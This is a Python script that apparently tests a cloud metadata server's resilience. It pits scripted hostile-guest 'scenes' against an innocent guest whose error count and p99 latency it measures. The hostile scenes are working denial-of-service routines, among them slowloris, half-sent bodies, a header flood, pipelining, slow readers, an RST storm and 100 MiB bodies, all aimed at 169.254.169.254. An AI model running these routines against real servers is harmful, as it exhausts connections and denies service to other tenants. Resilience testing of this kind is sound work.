"""One scene of a hostile guest's load, or the innocent guest beside it.

usage: load_scene.py SCENE ADDRESSES     connects from ADDRESSES in turn, prints "held" when the scene stands and lasts until it is ended
       load_scene.py innocent COUNT      COUNT requests, a connection each; prints the answers that were not 200, p99 and the longest in ms
"""

import itertools
import random
import resource
import select
import socket
import struct
import sys
import time

SERVER = ('169.254.169.254', 80)
GET = b'GET /latest/meta-data/local-ipv4 HTTP/1.1\r\nHost: h\r\n\r\n'
POST = b'POST /openstack/latest/password HTTP/1.1\r\nHost: h\r\n'
MIB = 1 << 20


def connect(source, receive=None):
    s = socket.socket()
    if receive:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
    s.settimeout(10)
    s.bind((source, 0))
    s.connect(SERVER)
    return s


def crowd(addresses, count, opening, receive=None):
    held = []
    for source in itertools.islice(itertools.cycle(addresses), count):
        s = connect(source, receive)
        s.sendall(opening)
        held.append(s)
    return held


def stand(text=''):
    print('held', text, flush=True)


def drip(held, data):
    """A byte a second each; who was closed comes back."""
    while True:
        for i, s in enumerate(held):
            try:
                s.sendall(data)
            except OSError:
                held[i] = connect(s_sources[i % len(s_sources)])
        time.sleep(1)


def idle(addresses):
    """More than there is room for: who is closed comes back."""
    held = []
    for i in itertools.count():
        try:
            held.append(connect(random.choice(addresses)))
        except OSError:
            pass
        if len(held) > 200:
            held.pop(0).close()
        if i == 200:
            stand()
        time.sleep(0.005)


def slowloris(addresses):
    held = crowd(addresses, 1000, b'GET /latest/meta-data HTTP/1.1\r\nHost: h\r\nX-Slow: ')
    stand()
    drip(held, b'a')


def half_bodies(addresses):
    held = crowd(addresses, 1000, POST + b'Content-Length: 1000\r\n\r\nhalf')
    stand()
    drip(held, b'a')


def header_flood(addresses):
    stand()
    lines = b''.join(b'X-%d: %s\r\n' % (i, b'f' * 90) for i in range(2000))
    for source in itertools.cycle(addresses):
        with connect(source) as s:
            try:
                s.sendall(b'GET / HTTP/1.1\r\nHost: h\r\n' + lines)
            except OSError:
                pass
        time.sleep(0.002)


def pipelined(addresses):
    stand()
    for source in itertools.cycle(addresses):
        with connect(source) as s:
            s.setblocking(False)
            rest = memoryview(GET * 10000)
            while True:
                readable, writable, _ = select.select([s], [s] if rest else [], [], 10)
                try:
                    if writable:
                        rest = rest[s.send(rest):]
                    if readable and not s.recv(65536):
                        break
                except OSError:
                    break


def never_read(addresses):
    held = crowd(addresses, 500, GET * 90, receive=4096)
    stand(len(held))
    time.sleep(600)


def slow_readers(addresses):
    held = crowd(addresses[:1], 200, b'GET /latest/user-data HTTP/1.1\r\nHost: h\r\n\r\n' * 4, receive=4096)
    stand()
    while True:
        for s in held:
            s.recv(256)
        time.sleep(0.1)


def rst_storm(addresses):
    stand()
    for i, source in enumerate(itertools.cycle(addresses)):
        s = connect(source)
        s.sendall(GET[:random.randrange(len(GET) + 1)])
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
        s.close()
        if i % 10 == 0:
            time.sleep(0.005)


def too_long(head, piece, addresses):
    """Sends on until the answer is there; the bytes sent until then are printed."""
    with connect(addresses[0]) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65536)
        s.sendall(POST + head)
        sent = 0
        while sent < 100 * MIB and not select.select([s], [], [], 0)[0]:
            if select.select([], [s], [], 1)[1]:
                s.sendall(piece)
                sent += len(piece)
        return sent, s.recv(65536)[9:12].decode()


def long_bodies(addresses):
    piece = b'p' * 16384
    for head, data in ((b'Content-Length: %d\r\n\r\n' % (100 * MIB), piece), (b'Transfer-Encoding: chunked\r\n\r\n', b'4000\r\n' + piece + b'\r\n')):
        sent, status = too_long(head, data, addresses)
        print('refused', status, 'early' if sent < 2 * MIB else 'late', sent, flush=True)
    stand()
    while True:
        too_long(b'Transfer-Encoding: chunked\r\n\r\n', b'4000\r\n' + piece + b'\r\n', addresses)


def innocent(count):
    waits, wrong = [], []
    for _ in range(count):
        start = time.monotonic()
        try:
            with socket.create_connection(SERVER, 5) as s:
                s.sendall(GET[:-2] + b'Connection: close\r\n\r\n')
                answer = b''
                while more := s.recv(65536):
                    answer += more
            if not answer.startswith(b'HTTP/1.1 200 '):
                wrong.append(answer[:60].decode('latin-1'))
        except OSError as e:
            wrong.append(str(e))
        waits.append((time.monotonic() - start) * 1000)
    waits.sort()
    print(f'{len(wrong)} wrong {wrong[:3]}, p99 {waits[int(count * 0.99)]:.1f} ms, longest {waits[-1]:.1f} ms')


if sys.argv[1] == 'innocent':
    innocent(int(sys.argv[2]))
else:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    s_sources = sys.argv[2].split(',')
    globals()[sys.argv[1]](s_sources)
